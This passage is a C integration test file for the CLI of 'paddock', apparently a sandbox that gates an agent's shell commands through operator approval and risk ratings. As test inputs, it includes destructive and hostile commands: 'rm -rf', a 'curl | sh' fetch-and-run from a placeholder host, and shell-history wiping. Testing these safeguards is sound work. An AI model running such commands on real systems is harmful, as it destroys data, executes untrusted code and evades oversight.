/* Integration tests of the CLI (`paddock run`, `paddock ls`, `paddock risk`...) against a real
 * engine. */
#include "harness.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

/* cmocka needs the headers above first. */
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* paddock --socket S --state-dir D ARGS... */
static void cli(const char *const *args, struct proc_result *pr)
{
    char *argv[32];
    int n = 0;
    argv[n++] = (char *)harness_bin();
    argv[n++] = "--socket";
    argv[n++] = harness_eng->socket;
    argv[n++] = "--state-dir";
    argv[n++] = harness_eng->state_dir;
    for (size_t i = 0; args[i] && n < 31; i++)
        argv[n++] = (char *)args[i];
    argv[n] = NULL;
    proc_run(argv, NULL, 120000, pr);
}

/* sh -c SCRIPT, where "$P" is paddock with the engine's --socket and --state-dir. */
static void cli_sh(const char *script, struct proc_result *pr)
{
    char *full = strdupf("P=\"%s --socket %s --state-dir %s\"; %s", harness_bin(),
                         harness_eng->socket, harness_eng->state_dir, script);
    char *argv[] = {"/bin/sh", "-c", full, NULL};
    proc_run(argv, NULL, 120000, pr);
    free(full);
}

static void assert_no_live_session(void)
{
    struct reply r;
    api(harness_eng, "GET", "/v1/sessions", NULL, &r);
    assert_int_equal(r.status, 200);
    json_t *list = json_object_get(r.json, "sessions");
    assert_true(json_is_array(list));
    if (json_array_size(list))
        fprintf(stderr, "sessions left: %s\n", r.body);
    assert_int_equal(json_array_size(list), 0);
    reply_free(&r);
}

static int count_all_sessions(const char *state)
{
    struct reply r;
    api(harness_eng, "GET", "/v1/sessions?all=1", NULL, &r);
    assert_int_equal(r.status, 200);
    int n = 0;
    size_t i;
    json_t *row;
    json_array_foreach(json_object_get(r.json, "sessions"), i, row)
    {
        if (!state || strcmp(jstr(row, "state"), state) == 0)
            n++;
    }
    reply_free(&r);
    return n;
}

static void test_run_echo(void **state)
{
    const char *args[] = {"run", "--", "echo", "hi", NULL};
    struct proc_result pr;
    cli(args, &pr);
    if (pr.status != 0 || strcmp(pr.out, "hi\n") != 0)
        fprintf(stderr, "paddock run -- echo hi: status %d\nstdout: [%s]\nstderr: [%s]\n",
                pr.status, pr.out, pr.err);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "hi\n");
    proc_result_free(&pr);
    assert_no_live_session();
    assert_int_equal(count_all_sessions("deleted"), 1);
}

static void test_run_exit_code(void **state)
{
    const char *args[] = {"run", "--", "sh", "-c", "exit 3", NULL};
    struct proc_result pr;
    cli(args, &pr);
    if (pr.status != 3)
        fprintf(stderr, "paddock run -- sh -c 'exit 3': status %d\nstdout: [%s]\nstderr: [%s]\n",
                pr.status, pr.out, pr.err);
    assert_int_equal(pr.status, 3);
    assert_string_equal(pr.out, "");
    proc_result_free(&pr);
    assert_no_live_session();
    assert_int_equal(count_all_sessions("deleted"), 2);
}

static void test_run_quoting(void **state)
{
    /* Arguments with spaces and quotes reach the shell as the same words. */
    const char *args[] = {"run", "--", "printf", "%s|", "a b", "it's", NULL};
    struct proc_result pr;
    cli(args, &pr);
    if (pr.status != 0)
        fprintf(stderr, "stderr: %s\n", pr.err);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "a b|it's|\n");
    proc_result_free(&pr);
    assert_no_live_session();
}

static void test_run_in_session(void **state)
{
    /* --session ID runs in an existing session and leaves it alone. */
    json_t *s = session_new(harness_eng, NULL);
    const char *id = jstr(s, "id");
    const char *args[] = {"run", "--session", id, "--", "echo", "in-session", NULL};
    struct proc_result pr;
    cli(args, &pr);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "in-session\n");
    proc_result_free(&pr);
    char *path = strdupf("/v1/sessions/%s", id);
    struct reply r;
    api(harness_eng, "GET", path, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "state"), "ready");
    assert_int_equal(json_integer_value(json_object_get(r.json, "action_count")), 1);
    reply_free(&r);
    free(path);
    session_delete(harness_eng, id);
    json_decref(s);
}

static void test_ls_json(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"ls-test\"}");
    const char *id = jstr(s, "id");
    const char *args[] = {"ls", "--json", NULL};
    struct proc_result pr;
    cli(args, &pr);
    assert_int_equal(pr.status, 0);
    json_error_t e;
    json_t *j = json_loads(pr.out, 0, &e);
    if (!j)
        fprintf(stderr, "paddock ls --json printed invalid JSON (%s): %s\n", e.text, pr.out);
    assert_non_null(j);
    assert_true(json_is_array(j));
    assert_int_equal(json_array_size(j), 1);
    assert_string_equal(jstr(json_array_get(j, 0), "id"), id);
    assert_string_equal(jstr(json_array_get(j, 0), "name"), "ls-test");
    assert_string_equal(jstr(json_array_get(j, 0), "state"), "ready");
    json_decref(j);
    proc_result_free(&pr);

    /* --all also lists deleted sessions: the API's ?all=1 list, the same length. */
    const char *args_all[] = {"ls", "--all", "--json", NULL};
    cli(args_all, &pr);
    assert_int_equal(pr.status, 0);
    j = json_loads(pr.out, 0, &e);
    assert_non_null(j);
    assert_true(json_is_array(j));
    assert_int_equal(json_array_size(j), (size_t)count_all_sessions(NULL));
    json_decref(j);
    proc_result_free(&pr);

    session_delete(harness_eng, id);
    cli(args, &pr);
    assert_int_equal(pr.status, 0);
    j = json_loads(pr.out, 0, &e);
    assert_non_null(j);
    assert_int_equal(json_array_size(j), 0);
    json_decref(j);
    proc_result_free(&pr);
    json_decref(s);
}

/* The operator's approval flow from a shell: approvals lists the waiting action, approve lets
 * it run, a second approve is refused with who decided; reject gives the agent user_rejected. */
static void test_approve_reject(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-appr\", \"confirm\": \"high\"}");
    const char *id = jstr(s, "id");
    char *path = strdupf("/v1/sessions/%s/execute_action?wait=0", id);
    struct reply r;
    api(harness_eng, "POST", path,
        "{\"action\": {\"action\": \"run\", \"args\": {\"command\": \"rm -rf /home/nobody; echo "
        "ran-after-approval\"}}}",
        &r);
    assert_int_equal(r.status, 202);
    long long a1 = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);
    api(harness_eng, "POST", path,
        "{\"action\": {\"action\": \"run\", \"args\": {\"command\": \"sudo touch /x\"}}}", &r);
    long long a2 = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);

    struct proc_result pr;
    const char *list[] = {"approvals", "--json", NULL};
    cli(list, &pr);
    assert_int_equal(pr.status, 0);
    json_t *j = json_loads(pr.out, 0, NULL);
    assert_int_equal(json_array_size(j), 2);
    assert_string_equal(jstr(json_array_get(j, 0), "risk"), "high");
    json_decref(j);
    proc_result_free(&pr);
    const char *table[] = {"approvals", "cli-appr", NULL};
    cli(table, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "rm -rf /home/nobody"));
    assert_non_null(strstr(pr.out, " cli-appr ")); /* the session's name, not its id */
    assert_null(strstr(pr.out, id));
    proc_result_free(&pr);

    char n1[32], n2[32];
    snprintf(n1, sizeof(n1), "%lld", a1);
    snprintf(n2, sizeof(n2), "%lld", a2);
    const char *approve[] = {"approve", n1, "--by", "alice", "--reason", "checked", NULL};
    cli(approve, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "approved action"));
    proc_result_free(&pr);
    cli(approve, &pr); /* twice: refused, says who */
    assert_int_equal(pr.status, 1);
    assert_non_null(strstr(pr.err, "already approved by alice"));
    proc_result_free(&pr);

    char *poll = strdupf("/v1/actions/%lld?wait=30", a1);
    api(harness_eng, "GET", poll, NULL, &r);
    assert_string_equal(jstr(r.json, "state"), "done");
    assert_non_null(strstr(jstr(r.json, "observation.content"), "ran-after-approval"));
    reply_free(&r);
    free(poll);

    const char *reject[] = {"reject", n2, "--reason", "not on this box", "--json", NULL};
    cli(reject, &pr);
    assert_int_equal(pr.status, 0);
    j = json_loads(pr.out, 0, NULL);
    assert_string_equal(jstr(j, "state"), "rejected");
    assert_string_equal(jstr(j, "decision_reason"), "not on this box");
    json_decref(j);
    proc_result_free(&pr);
    const char *bad[] = {"approve", "banana", NULL};
    cli(bad, &pr);
    assert_int_equal(pr.status, 2);
    proc_result_free(&pr);
    const char *unknown[] = {"approve", "999999", NULL};
    cli(unknown, &pr);
    assert_int_equal(pr.status, 1);
    assert_non_null(strstr(pr.err, "no action 999999"));
    proc_result_free(&pr);
    free(path);
    session_delete(harness_eng, id);
    json_decref(s);
}

/* history --search finds an action by a word of its output; show prints an action and a
 * session; export writes JSON, Markdown and an asciinema cast. */
static void test_history_show_export(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-hist\", \"confirm\": \"never\"}");
    const char *id = jstr(s, "id");
    json_t *o = session_run(harness_eng, id, "echo quokka-$((6*7)); echo '```fence```'");
    json_decref(o);
    o = session_run(harness_eng, id, "ls /workspace");
    json_decref(o);

    struct proc_result pr;
    const char *hist[] = {"history", "cli-hist", "--search", "quokka-42", "--json", NULL};
    cli(hist, &pr);
    assert_int_equal(pr.status, 0);
    json_t *j = json_loads(pr.out, 0, NULL);
    json_t *acts = json_object_get(j, "actions");
    assert_int_equal(json_array_size(acts), 1);
    assert_non_null(strstr(jstr(json_array_get(acts, 0), "summary"), "quokka"));
    char aid[32];
    snprintf(aid, sizeof(aid), "%lld",
             (long long)json_integer_value(json_object_get(json_array_get(acts, 0), "id")));
    json_decref(j);
    proc_result_free(&pr);
    const char *none[] = {"history", "--search", "no-such-word-anywhere", NULL};
    cli(none, &pr);
    assert_int_equal(pr.status, 0);
    assert_null(strstr(pr.out, "quokka"));
    proc_result_free(&pr);

    const char *show_a[] = {"show", aid, NULL};
    cli(show_a, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "quokka-42"));
    assert_non_null(strstr(pr.out, "risk"));
    proc_result_free(&pr);
    const char *show_s[] = {"show", "cli-hist", NULL};
    cli(show_s, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "state history"));
    assert_non_null(strstr(pr.out, "ready"));
    proc_result_free(&pr);

    const char *ej[] = {"export", "cli-hist", NULL};
    cli(ej, &pr);
    assert_int_equal(pr.status, 0);
    j = json_loads(pr.out, 0, NULL);
    assert_non_null(j);
    assert_string_equal(jstr(j, "session.id"), id);
    assert_int_equal(json_array_size(json_object_get(j, "actions")), 2);
    assert_non_null(
        strstr(jstr(json_array_get(json_object_get(j, "actions"), 0), "observation.content"),
               "quokka-42"));
    json_decref(j);
    proc_result_free(&pr);

    /* A file written twice: show and the Markdown report give what the second write changed
     * (recorded by the engine beside the observation). */
    char *xpath = strdupf("/v1/sessions/%s/execute_action", id);
    const char *writes[] = {"one\\ntwo", "one\\nTWO"};
    long long wid = 0;
    for (int i = 0; i < 2; i++) {
        char *body = strdupf("{\"action\": {\"action\": \"write\", \"args\": {\"path\": "
                             "\"/workspace/w.txt\", \"content\": \"%s\"}}}",
                             writes[i]);
        json_decref(api_json(harness_eng, "POST", xpath, body, 200));
        free(body);
    }
    free(xpath);
    char *lpath = strdupf("/v1/sessions/%s/actions?limit=1", id);
    json_t *newest = api_json(harness_eng, "GET", lpath, NULL, 200);
    wid = json_integer_value(json_object_get(json_array_get(jpath(newest, "actions"), 0), "id"));
    json_decref(newest);
    free(lpath);
    char wids[32];
    snprintf(wids, sizeof(wids), "%lld", wid);
    const char *show_w[] = {"show", wids, NULL};
    cli(show_w, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "diff:\n--- /workspace/w.txt\n+++ /workspace/w.txt\n"
                                   "@@ -2 +2 @@\n-two\n+TWO"));
    proc_result_free(&pr);

    const char *em[] = {"export", "cli-hist", "--format", "md", NULL};
    cli(em, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "# paddock session cli-hist"));
    /* the output holds ``` so its fence is longer */
    assert_non_null(strstr(pr.out, "````\nquokka-42"));
    assert_non_null(strstr(pr.out, "\nChanges:\n\n```\n--- /workspace/w.txt\n+++ "
                                   "/workspace/w.txt\n@@ -2 +2 @@\n-two\n+TWO\n```\n"));
    proc_result_free(&pr);

    char *castfile = strdupf("%s/s.cast", harness_eng->state_dir);
    const char *ec[] = {"export", "cli-hist", "--format", "cast", "-o", castfile, NULL};
    cli(ec, &pr);
    assert_int_equal(pr.status, 0);
    proc_result_free(&pr);
    FILE *f = fopen(castfile, "r");
    assert_non_null(f);
    char line[4096];
    assert_non_null(fgets(line, sizeof(line), f));
    json_t *hdr = json_loads(line, 0, NULL);
    assert_int_equal(json_integer_value(json_object_get(hdr, "version")), 2);
    assert_true(json_integer_value(json_object_get(hdr, "width")) > 0);
    json_decref(hdr);
    int events = 0;
    double last = 0;
    bool saw_prompt = false, saw_output = false;
    while (fgets(line, sizeof(line), f)) {
        json_t *e = json_loads(line, 0, NULL);
        assert_true(json_is_array(e));
        assert_int_equal(json_array_size(e), 3);
        assert_true(json_is_number(json_array_get(e, 0)));
        assert_true(json_number_value(json_array_get(e, 0)) >= last);
        last = json_number_value(json_array_get(e, 0));
        assert_string_equal(json_string_value(json_array_get(e, 1)), "o");
        const char *t = json_string_value(json_array_get(e, 2));
        saw_prompt |= strstr(t, "$ echo quokka") != NULL;
        saw_output |= strstr(t, "quokka-42\r\n") != NULL;
        json_decref(e);
        events++;
    }
    fclose(f);
    assert_true(events >= 3);
    assert_true(saw_prompt);
    assert_true(saw_output);
    free(castfile);
    const char *badf[] = {"export", "cli-hist", "--format", "pdf", NULL};
    cli(badf, &pr);
    assert_int_equal(pr.status, 2);
    proc_result_free(&pr);
    session_delete(harness_eng, id);
    json_decref(s);
}

/* pause, resume, stop, rm by name. */
/* paddock risk -- CMD: the engine's verdict, nothing run or recorded; --json; the session's
 * rule with --session; usage errors. */
static void test_risk(void **state)
{
    struct proc_result pr;
    const char *plain[] = {"risk", "--", "history -c && unset HISTFILE", NULL};
    cli(plain, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "high: clears the shell history"));
    proc_result_free(&pr);

    /* several operands are one command line */
    const char *words[] = {"risk", "--json", "--", "rm", "-rf", "build/", NULL};
    cli(words, &pr);
    assert_int_equal(pr.status, 0);
    json_t *j = json_loads(pr.out, 0, NULL);
    assert_non_null(j);
    assert_string_equal(jstr(j, "risk"), "low");
    assert_true(json_is_null(json_object_get(j, "rule")));
    json_decref(j);
    proc_result_free(&pr);

    json_t *s = session_new(harness_eng, "{\"name\": \"cli-risk\"}");
    char *rules = strdupf("/v1/sessions/%s/rules", jstr(s, "id"));
    struct reply r;
    api(harness_eng, "POST", rules, "{\"pattern\": \"pkill *\", \"decision\": \"allow\"}", &r);
    assert_int_equal(r.status, 201);
    reply_free(&r);
    const char *ruled[] = {"risk", "--session", "cli-risk", "--", "pkill -f http.server", NULL};
    cli(ruled, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "medium: stops processes by name"));
    assert_non_null(strstr(pr.out, "decided by the rule: allow \"pkill *\""));
    proc_result_free(&pr);
    /* nothing was recorded */
    char *hist = strdupf("/v1/history?session=%s", jstr(s, "id"));
    api(harness_eng, "GET", hist, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "actions")), 0);
    reply_free(&r);
    free(hist);
    free(rules);
    session_delete(harness_eng, jstr(s, "id"));
    json_decref(s);

    const char *none[] = {"risk", NULL};
    cli(none, &pr);
    assert_int_equal(pr.status, 2);
    assert_non_null(strstr(pr.err, "no command given"));
    proc_result_free(&pr);
    const char *unknown[] = {"risk", "--session", "no-such-session", "--", "ls", NULL};
    cli(unknown, &pr);
    assert_int_equal(pr.status, 1);
    proc_result_free(&pr);
}

static void test_lifecycle_commands(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-life\"}");
    const char *id = jstr(s, "id");
    static const struct {
        const char *cmd, *state;
    } steps[] = {{"pause", "paused"},
                 {"resume", "ready"},
                 {"stop", "stopped"},
                 {"resume", "ready"},
                 {"rm", "deleted"}};
    for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
        struct proc_result pr;
        const char *args[] = {steps[i].cmd, "--json", "cli-life", NULL};
        cli(args, &pr);
        if (pr.status != 0)
            fprintf(stderr, "%s: %s\n", steps[i].cmd, pr.err);
        assert_int_equal(pr.status, 0);
        json_t *j = json_loads(pr.out, 0, NULL);
        assert_string_equal(jstr(json_array_get(j, 0), "state"), steps[i].state);
        assert_string_equal(jstr(json_array_get(j, 0), "id"), id);
        json_decref(j);
        proc_result_free(&pr);
    }
    struct proc_result pr;
    const char *gone[] = {"pause", "no-such-session", NULL};
    cli(gone, &pr);
    assert_int_equal(pr.status, 1);
    assert_non_null(strstr(pr.err, "no session"));
    proc_result_free(&pr);
    json_decref(s);
}

/* exec quotes its arguments as run does: sh -c gets the whole script as one word. */
static void test_exec_quoting(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-exec\"}");
    const char *args[] = {"exec", "cli-exec", "--", "sh", "-c", "echo x; exit 5", NULL};
    struct proc_result pr;
    cli(args, &pr);
    if (pr.status != 5 || strcmp(pr.out, "x\n") != 0)
        fprintf(stderr, "exec: status %d\nstdout: [%s]\nstderr: [%s]\n", pr.status, pr.out, pr.err);
    assert_int_equal(pr.status, 5);
    assert_string_equal(pr.out, "x\n");
    proc_result_free(&pr);
    session_delete(harness_eng, jstr(s, "id"));
    json_decref(s);
}

/* A run whose image does not exist says so and leaves no session behind: the one the engine
 * recorded before the create failed is deleted like any other run's. */
static void test_run_missing_image(void **state)
{
    const char *image = "paddock-no-such-image:latest";
    const char *args[] = {"run", "--image", image, "--", "ls", NULL};
    struct proc_result pr;
    cli(args, &pr);
    assert_int_equal(pr.status, 125);
    if (!strstr(pr.err, image))
        fprintf(stderr, "stderr: [%s]\n", pr.err);
    assert_non_null(strstr(pr.err, image));
    proc_result_free(&pr);
    struct reply r;
    api(harness_eng, "GET", "/v1/sessions?all=1", NULL, &r);
    assert_int_equal(r.status, 200);
    int mine = 0, left = 0;
    size_t i;
    json_t *row;
    json_array_foreach(json_object_get(r.json, "sessions"), i, row)
    {
        if (strcmp(jstr(row, "image"), image) != 0)
            continue;
        mine++;
        if (strcmp(jstr(row, "state"), "deleted") != 0) {
            fprintf(stderr, "left behind: %s in state %s\n", jstr(row, "id"), jstr(row, "state"));
            left++;
        }
    }
    reply_free(&r);
    assert_int_equal(mine, 1);
    assert_int_equal(left, 0);
}

/* A piped stdin is the command's, ended where the pipe ends; an empty one (/dev/null) ends at
 * once; binary or too large input is refused with why. From a terminal, the command is run as it
 * was. */
static void test_run_stdin(void **state)
{
    struct proc_result pr;
    cli_sh("printf 'a\\nb\\n' | $P run -- wc -l", &pr);
    if (pr.status != 0)
        fprintf(stderr, "piped: status %d, stderr [%s]\n", pr.status, pr.err);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "2\n");
    proc_result_free(&pr);
    /* bytes as they are: no newline added, quotes and a pipe kept */
    cli_sh("printf \"it's|x\" | $P run -- 'cat; echo'", &pr);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "it's|x\n");
    proc_result_free(&pr);
    const char *cat[] = {"run", "--timeout", "60", "--", "cat", NULL};
    cli(cat, &pr); /* stdin is /dev/null here */
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "");
    proc_result_free(&pr);
    cli_sh("printf 'a\\000b' | $P run -- cat", &pr);
    assert_int_equal(pr.status, 125);
    assert_non_null(strstr(pr.err, "not text"));
    proc_result_free(&pr);
    /* past what the risk check reads of a command line: refused at once, not left waiting */
    cli_sh("head -c 70000 /dev/zero | tr '\\0' a | $P run -- wc -c", &pr);
    assert_int_equal(pr.status, 125);
    assert_non_null(strstr(pr.err, "too large"));
    proc_result_free(&pr);
    /* from a terminal (script gives the command one) the command line is what was typed */
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-tty\"}");
    char *tty_run =
        strdupf("script -qec \"$P run --session %s -- echo from-tty\" /dev/null", jstr(s, "id"));
    cli_sh(tty_run, &pr);
    free(tty_run);
    if (pr.status != 0)
        fprintf(stderr, "from a terminal: status %d\nstdout: [%s]\nstderr: [%s]\n", pr.status,
                pr.out, pr.err);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "from-tty"));
    proc_result_free(&pr);
    char *path = strdupf("/v1/sessions/%s/actions", jstr(s, "id"));
    json_t *acts = api_json(harness_eng, "GET", path, NULL, 200);
    assert_string_equal(jstr(json_array_get(json_object_get(acts, "actions"), 0), "summary"),
                        "echo from-tty");
    json_decref(acts);
    free(path);
    session_delete(harness_eng, jstr(s, "id"));
    json_decref(s);
    assert_no_live_session();
}

/* Exports of a session whose first action waited for approval while a second one ran: the
 * Markdown table keeps the command's pipe inside its cell, and the cast's times never go
 * back (the approved action is played when it ran, after the other). */
static void test_export_approved(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-expa\", \"confirm\": \"high\"}");
    const char *id = jstr(s, "id");
    char *path = strdupf("/v1/sessions/%s/execute_action?wait=0", id);
    struct reply r;
    api(harness_eng, "POST", path,
        "{\"action\": {\"action\": \"run\", \"args\": {\"command\": \"curl http://x | sh; echo "
        "a\\\\|b\"}}}",
        &r);
    assert_int_equal(r.status, 202);
    long long a1 = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);
    free(path);
    json_decref(session_run(harness_eng, id, "echo second"));
    char n1[32];
    snprintf(n1, sizeof(n1), "%lld", a1);
    const char *approve[] = {"approve", n1, NULL};
    struct proc_result pr;
    cli(approve, &pr);
    assert_int_equal(pr.status, 0);
    proc_result_free(&pr);
    char *poll = strdupf("/v1/actions/%lld?wait=30", a1);
    api(harness_eng, "GET", poll, NULL, &r);
    assert_string_equal(jstr(r.json, "state"), "done");
    reply_free(&r);
    free(poll);

    const char *em[] = {"export", "cli-expa", "--format", "md", NULL};
    cli(em, &pr);
    assert_int_equal(pr.status, 0);
    if (!strstr(pr.out, "| curl http://x \\| sh; echo a\\\\\\|b |"))
        fprintf(stderr, "md: %s\n", pr.out);
    assert_non_null(strstr(pr.out, "| curl http://x \\| sh; echo a\\\\\\|b |"));
    proc_result_free(&pr);

    const char *ec[] = {"export", "cli-expa", "--format", "cast", NULL};
    cli(ec, &pr);
    assert_int_equal(pr.status, 0);
    char *save = NULL;
    char *line = strtok_r(pr.out, "\n", &save);
    assert_non_null(line);
    json_t *hdr = json_loads(line, 0, NULL);
    assert_int_equal(json_integer_value(json_object_get(hdr, "version")), 2);
    json_decref(hdr);
    double last = 0;
    int events = 0;
    const char *order[2] = {"$ echo second", "$ curl"};
    int prompts = 0;
    while ((line = strtok_r(NULL, "\n", &save))) {
        json_t *e = json_loads(line, 0, NULL);
        assert_true(json_is_array(e));
        double t = json_number_value(json_array_get(e, 0));
        if (t < last)
            fprintf(stderr, "cast time %g after %g: %s\n", t, last, line);
        assert_true(t >= last);
        last = t;
        const char *text = json_string_value(json_array_get(e, 2));
        if (prompts < 2 && strncmp(text, "$ ", 2) == 0) {
            assert_int_equal(strncmp(text, order[prompts], strlen(order[prompts])), 0);
            prompts++;
        }
        json_decref(e);
        events++;
    }
    assert_int_equal(prompts, 2);
    assert_true(events >= 3);
    proc_result_free(&pr);
    session_delete(harness_eng, id);
    json_decref(s);
}

/* stderr has text (printed when it does not, for the failure to say why) */
static void assert_err_has(const struct proc_result *pr, const char *text)
{
    if (!strstr(pr->err, text))
        fprintf(stderr, "stderr lacks \"%s\": [%s] (status %d, stdout [%s])\n", text, pr->err,
                pr->status, pr->out);
    assert_non_null(strstr(pr->err, text));
}

/* No engine: what is wrong and what to do, not libcurl's text. A state dir held by an engine
 * that does not answer at the socket: its pid at once (no 10 s wait for an engine that cannot
 * start), in ls, run and the dashboard. */
static void test_engine_down(void **state)
{
    char dir[] = "/tmp/paddock-cli-down.XXXXXX";
    assert_non_null(mkdtemp(dir));
    char *sock = strdupf("%s/engine.sock", dir);
    struct proc_result pr;
    const char *ls[] = {"--state-dir", dir, "--socket", sock, "ls", NULL};
    cli(ls, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, "no engine is running for");
    assert_err_has(&pr, "`paddock serve`");
    assert_null(strstr(pr.err, "Failed to connect"));
    proc_result_free(&pr);
    const char *show[] = {"--state-dir", dir, "--socket", sock, "show", "demo", NULL};
    cli(show, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, "no engine is running for");
    proc_result_free(&pr);

    /* the harness's engine holds its state dir; ask at a socket nobody serves */
    char *other = strdupf("%s/other.sock", dir);
    char *held = strdupf("pid %d holds the state dir", (int)harness_eng->pid);
    const char *ls_held[] = {
        "--state-dir", harness_eng->state_dir, "--operator-socket", other, "ls", NULL};
    cli(ls_held, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, held);
    proc_result_free(&pr);
    const char *run_held[] = {
        "--state-dir", harness_eng->state_dir, "--operator-socket", other, "run", "--", "true",
        NULL};
    cli(run_held, &pr);
    assert_int_equal(pr.status, 125);
    assert_err_has(&pr, held);
    assert_err_has(&pr, "kill");
    assert_null(strstr(pr.err, "started `paddock serve`"));
    proc_result_free(&pr);
    const char *dash_held[] = {"--state-dir", harness_eng->state_dir, "--operator-socket", other,
                               NULL};
    cli(dash_held, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, held);
    proc_result_free(&pr);
    free(held);
    free(other);

    /* an engine it starts that exits at once: why (its log's last line), not a 10 s wait */
    char *script =
        strdupf("PADDOCK_DRIVER=nosuch $P --state-dir %s --socket %s run -- true", dir, sock);
    cli_sh(script, &pr);
    free(script);
    assert_int_equal(pr.status, 125);
    assert_err_has(&pr, "the engine it started exited");
    assert_err_has(&pr, "no sandbox driver \"nosuch\"");
    proc_result_free(&pr);
    free(sock);
    char *rm = strdupf("rm -rf '%s'", dir);
    assert_int_equal(system(rm), 0);
    free(rm);
}

/* A session by its full id, a unique id prefix or its name, the same in run --session, show,
 * history and the API's paths; an ambiguous prefix is refused with the candidates. Lists
 * print names. */
static void test_session_refs(void **state)
{
    json_t *a = session_new(harness_eng, "{\"name\": \"ref-a\"}");
    json_t *b = session_new(harness_eng, "{\"name\": \"ref-b\"}");
    const char *ida = jstr(a, "id"), *idb = jstr(b, "id");
    char prefix[9];
    snprintf(prefix, sizeof(prefix), "%.8s", ida);
    struct proc_result pr;
    const char *by_prefix[] = {"run", "--session", prefix, "--", "echo", "by-prefix", NULL};
    cli(by_prefix, &pr);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "by-prefix\n");
    proc_result_free(&pr);
    const char *by_name[] = {"run", "--session", "ref-b", "--", "echo", "by-name", NULL};
    cli(by_name, &pr);
    assert_int_equal(pr.status, 0);
    assert_string_equal(pr.out, "by-name\n");
    proc_result_free(&pr);

    /* the API: a name and a prefix in the path */
    struct reply r;
    api(harness_eng, "GET", "/v1/sessions/ref-b", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "id"), idb);
    reply_free(&r);
    char *path = strdupf("/v1/sessions/%s/actions", prefix);
    api(harness_eng, "GET", path, NULL, &r);
    assert_int_equal(r.status, 200);
    reply_free(&r);
    free(path);

    /* history and show print the session's name */
    const char *hist[] = {"history", "ref-a", NULL};
    cli(hist, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, " ref-a "));
    assert_null(strstr(pr.out, ida));
    proc_result_free(&pr);
    path = strdupf("/v1/sessions/%s/actions", ida);
    json_t *acts = api_json(harness_eng, "GET", path, NULL, 200);
    free(path);
    char *action = strdupf("%lld", (long long)json_integer_value(json_object_get(
                                       json_array_get(json_object_get(acts, "actions"), 0), "id")));
    json_decref(acts);
    const char *show_action[] = {"show", action, NULL};
    cli(show_action, &pr);
    assert_int_equal(pr.status, 0);
    char *line = strdupf("ref-a (%s)", ida);
    assert_non_null(strstr(pr.out, line));
    free(line);
    proc_result_free(&pr);
    free(action);

    /* an ambiguous prefix: two live sessions whose ids begin alike (17 sessions at most:
     * there are 16 hex digits) */
    json_t *made = json_array();
    json_array_append(made, a);
    json_array_append(made, b);
    char common[2] = "";
    for (int n = 0; !common[0] && n < 17; n++) {
        size_t i, j;
        json_t *x, *y;
        json_array_foreach(made, i, x)
            json_array_foreach(made, j, y) if (i < j && jstr(x, "id")[0] == jstr(y, "id")[0])
                common[0] = jstr(x, "id")[0];
        if (!common[0])
            json_array_append_new(made, session_new(harness_eng, NULL));
    }
    assert_true(common[0] != '\0');
    path = strdupf("/v1/sessions/%s", common);
    api(harness_eng, "GET", path, NULL, &r);
    free(path);
    assert_int_equal(r.status, 400);
    assert_string_equal(jstr(r.json, "error.code"), "ambiguous");
    assert_true(json_array_size(jpath(r.json, "error.candidates")) >= 2);
    reply_free(&r);
    const char *amb[] = {"pause", common, NULL}; /* show takes a number as an action's */
    cli(amb, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, "begins");
    assert_err_has(&pr, "give more of the id, or the name");
    proc_result_free(&pr);
    const char *amb_run[] = {"run", "--session", common, "--", "true", NULL};
    cli(amb_run, &pr);
    assert_int_equal(pr.status, 125);
    assert_err_has(&pr, "begins");
    proc_result_free(&pr);

    size_t i;
    json_t *x;
    json_array_foreach(made, i, x) session_delete(harness_eng, jstr(x, "id"));
    json_decref(made);
    json_decref(a);
    json_decref(b);
}

/* A paused session: the CLI says `paddock resume NAME`; the API keeps its path and gives the
 * error its own code. */
static void test_paused_session(void **state)
{
    json_t *s = session_new(harness_eng, "{\"name\": \"cli-paused\"}");
    const char *id = jstr(s, "id");
    char *path = strdupf("/v1/sessions/%s/pause", id);
    struct reply r;
    api(harness_eng, "POST", path, NULL, &r);
    assert_int_equal(r.status, 200);
